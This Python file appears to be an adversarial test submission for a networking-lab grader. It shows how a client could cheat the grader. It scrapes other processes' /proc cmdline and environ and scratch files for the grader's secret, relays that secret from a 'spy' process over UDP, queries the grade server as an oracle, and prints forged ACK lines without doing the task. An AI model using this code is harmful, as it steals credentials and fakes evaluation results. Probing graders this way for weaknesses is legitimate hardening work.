"""Hostile lossy-client submission: never reads a reply; prints ACK lines forged from the grader's
secret, and makes the server see every request exactly once by predicting the router's drops.

Two roles, by argv (a participant submits one file; the test runs it in both places):
  secret_reader.py HOST PORT COUNT   the client, on alice (as graded)
  secret_reader.py spy SPY_PORT      the same program as nobody in srv, beside the grade peer, as
                                     a participant's server is in the other assignments

Where it looks for the secret, in the node it runs in: every process's argv (/proc/*/cmdline is
world-readable), every environment it can read (/proc/*/environ), and every file under hoplab's
scratch folder (/tmp/hoplab: the grade dir, peers' logs) that it can open. Failing that, it asks
the grade server itself for the tags, from srv (an oracle that answers anyone).

What it attacks: a grader that hands a peer its secret in argv, env or a readable file, and a
peer that answers whoever asks.
"""

import contextlib
import hashlib
import json
import os
import re
import socket
import sys

SCRATCH = "/tmp/hoplab"
EVERY = 3  # the router drops every 3rd request datagram (iptables statistic nth)


def tag(secret: str, n: int) -> str:
    return hashlib.sha256(f"{secret}:{n}".encode()).hexdigest()[:8]


def _read(path: str) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read(1 << 20)
    except OSError:
        return b""


def find_secret() -> str:
    """The grade server's SECRET, from wherever this node shows it."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        argv = _read(f"/proc/{pid}/cmdline").decode(errors="replace").split("\0")
        for i, arg in enumerate(argv):
            if arg.endswith("grade_udp_server.py") and len(argv) > i + 3:
                candidate = argv[i + 3]  # serve PORT SECRET
                if re.fullmatch(r"[0-9a-f]{16}", candidate):
                    return candidate
        for var in _read(f"/proc/{pid}/environ").split(b"\0"):
            name, _, value = var.decode(errors="replace").partition("=")
            if "SECRET" in name.upper() and value:
                return value
    for here, _, files in os.walk(SCRATCH):
        for name in files:
            text = _read(os.path.join(here, name)).decode(errors="replace").strip()
            if "secret" in name.lower() and re.fullmatch(r"[0-9a-f]{16}", text):
                return text
            m = re.search(r"grade_udp_server\.py serve \d+ ([0-9a-f]{16})", text)
            if m:
                return m.group(1)
    return ""


def ask_oracle(port: int, count: int) -> dict[int, str]:
    """The grade server's replies, asked for from srv itself (its own addresses)."""
    tags: dict[int, str] = {}
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    targets = ["127.0.0.1"]
    with contextlib.suppress(OSError):
        targets += socket.gethostbyname_ex(socket.gethostname())[2]
    for host in targets:
        for n in range(count):
            if n in tags:
                continue
            with contextlib.suppress(OSError):
                s.sendto(f"REQ {n}".encode(), (host, port))
                data, _ = s.recvfrom(2048)
                words = data.decode(errors="replace").split()
                if len(words) == 3 and words[0] == "ACK":
                    tags[int(words[1])] = words[2]
    return tags


def spy(spy_port: int) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", spy_port))
    while True:
        data, peer = s.recvfrom(2048)
        port, count = (int(x) for x in data.split())
        secret = find_secret()
        tags = {n: tag(secret, n) for n in range(count)} if secret else ask_oracle(port, count)
        s.sendto(json.dumps({"secret": secret, "tags": tags}).encode(), peer)


def client(host: str, port: int, count: int) -> None:
    tags: dict[int, str] = {}
    secret = find_secret()  # alice's own /proc and files
    if secret:
        tags = {n: tag(secret, n) for n in range(count)}
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        with contextlib.suppress(OSError):
            s.sendto(f"{port} {count}".encode(), (host, port + 96))
            tags = {int(k): v for k, v in json.loads(s.recv(65535))["tags"].items()}
    # Every request reaches srv once, and never a reply is read: the EVERY-th datagram of the
    # flow is the one r1 drops, so send that one twice.
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = 0
    for n in range(count):
        while True:
            out.sendto(f"REQ {n}".encode(), (host, port))
            sent += 1
            if sent % EVERY:
                break
    for n in range(count):
        if n in tags:
            print(f"ACK {n} {tags[n]}")


if __name__ == "__main__":
    if sys.argv[1] == "spy":
        spy(int(sys.argv[2]))
    else:
        client(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
